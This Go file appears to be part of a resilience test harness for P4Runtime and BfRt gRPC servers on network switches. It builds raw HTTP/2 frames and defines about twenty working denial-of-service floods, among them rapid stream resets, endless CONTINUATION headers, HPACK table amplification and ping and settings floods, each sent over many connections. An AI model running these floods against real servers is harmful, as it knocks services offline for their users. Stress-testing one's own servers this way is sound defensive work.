package main

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"net"
	"strings"
)

// Attacks below the level of calls: a client of an HTTP/2 server sends cheap
// frames as fast as it can.

// Frame types and flags of RFC 9113.
const (
	dataFrame         = 0
	headersFrame      = 1
	priorityFrame     = 2
	resetFrame        = 3
	settingsFrame     = 4
	pingFrame         = 6
	windowFrame       = 8
	continuationFrame = 9
	endHeaders        = 4
	padded            = 8
)

// frame encodes an HTTP/2 frame.
func frame(kind, flags byte, stream uint32, payload []byte) []byte {
	b := append([]byte{byte(len(payload) >> 16), byte(len(payload) >> 8), byte(len(payload)), kind, flags}, binary.BigEndian.AppendUint32(nil, stream)...)
	return append(b, payload...)
}

const preface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

// head encodes the headers of a call with HPACK literals.
func head(method string, more ...string) []byte {
	var b []byte
	list := append([]string{":method", "POST", ":scheme", "http", ":path", method, ":authority", "switch", "content-type", "application/grpc", "te", "trailers"}, more...)
	for i := 0; i < len(list); i += 2 {
		b = literal(append(b, 0), list[i], list[i+1])
	}
	return b
}

// literal appends a name and a value.
func literal(b []byte, name, value string) []byte {
	for _, s := range []string{name, value} {
		if n := len(s); n < 127 {
			b = append(b, byte(n))
		} else {
			b = append(b, 127)
			for n -= 127; n >= 128; n >>= 7 {
				b = append(b, byte(n)|128)
			}
			b = append(b, byte(n))
		}
		b = append(b, s...)
	}
	return b
}

// A flood is the data that a client sends on each connection: first once, then
// next repeatedly. Stream i has the number 2i+1.
type flood struct {
	name  string
	first func(method string) []byte
	next  func(method string, i uint32) []byte
	deaf  bool // the client reads nothing
}

// floods returns all floods.
func floods() []flood {
	open := func(method string) []byte { return frame(headersFrame, endHeaders, 1, head(method)) }
	none := func(string) []byte { return nil }
	same := func(b []byte) func(string, uint32) []byte {
		b = bytes.Repeat(b, max(1, 1<<14/len(b)))
		return func(string, uint32) []byte { return b }
	}
	call := func(method string, i uint32, more ...string) []byte {
		return frame(headersFrame, endHeaders, 2*i+1, head(method, more...))
	}
	field := literal([]byte{0}, "x", strings.Repeat("y", 100))
	settings := func(id uint16, value uint32) []byte {
		return frame(settingsFrame, 0, 0, binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint16(nil, id), value))
	}
	return []flood{
		{"calls reset immediately", none, func(method string, i uint32) []byte {
			return append(call(method, i), frame(resetFrame, 0, 2*i+1, []byte{0, 0, 0, 8})...)
		}, false},
		{"calls reset immediately, by clients that receive nothing", none, func(method string, i uint32) []byte {
			return append(call(method, i), frame(resetFrame, 0, 2*i+1, []byte{0, 0, 0, 8})...)
		}, true},
		{"calls reset immediately, without a window", func(string) []byte { return settings(4, 0) }, func(method string, i uint32) []byte {
			return append(call(method, i), frame(resetFrame, 0, 2*i+1, []byte{0, 0, 0, 8})...)
		}, false},
		{"endless headers", func(method string) []byte { return frame(headersFrame, 0, 1, head(method)) }, same(frame(continuationFrame, 0, 1, field)), false},
		{"endless headers without fields", func(method string) []byte { return frame(headersFrame, 0, 1, head(method)) }, same(frame(continuationFrame, 0, 1, nil)), false},
		{"large headers of open calls", none, func(method string, i uint32) []byte { return call(method, i, "x", strings.Repeat("y", 15000)) }, false},
		{"headers enlarged by the dynamic table", none, func(method string, i uint32) []byte {
			b := literal(append(head(method), 0x40), "x", strings.Repeat("y", 3900))
			return frame(headersFrame, endHeaders, 2*i+1, append(b, bytes.Repeat([]byte{0x80 | 62}, 10000)...))
		}, false},
		{"settings", none, same(settings(4, 65535)), false},
		{"settings, by clients that receive nothing", none, same(settings(4, 65535)), true},
		{"window changes during open calls", func(method string) []byte {
			var b []byte
			for i := range uint32(100) {
				b = append(b, call(method, i)...)
			}
			return b
		}, same(append(settings(4, 0), settings(4, 1<<31-1)...)), false},
		{"table size changes", none, same(append(settings(1, 0), settings(1, 1<<31-1)...)), false},
		{"pings", none, same(frame(pingFrame, 0, 0, make([]byte, 8))), false},
		{"pings, by clients that receive nothing", none, same(frame(pingFrame, 0, 0, make([]byte, 8))), true},
		{"priorities", none, same(frame(priorityFrame, 0, 1, []byte{0, 0, 0, 3, 16})), false},
		{"window updates of one byte", none, same(frame(windowFrame, 0, 0, []byte{0, 0, 0, 1})), false},
		{"frames of unknown types", none, same(frame(0xfe, 0, 0, make([]byte, 1<<14))), false},
		{"empty data frames", open, same(frame(dataFrame, 0, 1, nil)), false},
		{"data frames of padding", open, same(frame(dataFrame, padded, 1, append([]byte{255}, make([]byte, 255)...))), false},
		{"data of unknown streams", none, same(frame(dataFrame, 0, 1001, []byte{0})), false},
		{"compressed messages", none, func(method string, i uint32) []byte {
			b := call(method, i, "grpc-encoding", "gzip")
			return append(b, frame(dataFrame, 1, 2*i+1, append([]byte{1, 0, 0, 0, 100}, make([]byte, 100)...))...)
		}, false},
		{"invalid messages", none, func(method string, i uint32) []byte {
			b := bytes.Repeat([]byte{0x0a, 0xff, 0xff, 0xff, 0xff, 0x0f}, 100)
			return append(call(method, i), frame(dataFrame, 1, 2*i+1, append([]byte{0, 0, 0, 2, 0x58}, b...))...)
		}, false},
		{"calls of unknown methods", none, func(_ string, i uint32) []byte { return call("/"+strings.Repeat("x", 8000), i) }, false},
	}
}

// lay floods a server on n connections.
func (f *flood) lay(over context.Context, n int, address, method string) error {
	return each(over, n, address, func(conn net.Conn) error {
		if !f.deaf {
			go io.Copy(io.Discard, conn)
		}
		_, err := conn.Write(append(append([]byte(preface), frame(settingsFrame, 0, 0, nil)...), f.first(method)...))
		for i := uint32(0); err == nil && i < 1<<29; i++ {
			_, err = conn.Write(f.next(method, i))
		}
		return err
	})
}

// floodSieges returns the floods of the P4Runtime server, and some for the BfRt
// server, which uses the same gate.
func floodSieges() []siege {
	var list []siege
	for i, f := range floods() {
		list = append(list, siege{name: f.name, run: func(w *p4rtTarget) error {
			return f.lay(w, 20, w.p4runtime, "/p4.v1.P4Runtime/StreamChannel")
		}})
		if i%7 == 0 {
			list = append(list, siege{name: f.name, chip: func(c *bfrtTarget) error {
				return f.lay(c, 20, c.address, "/bfrt_proto.BfRuntime/StreamChannel")
			}})
		}
	}
	return list
}
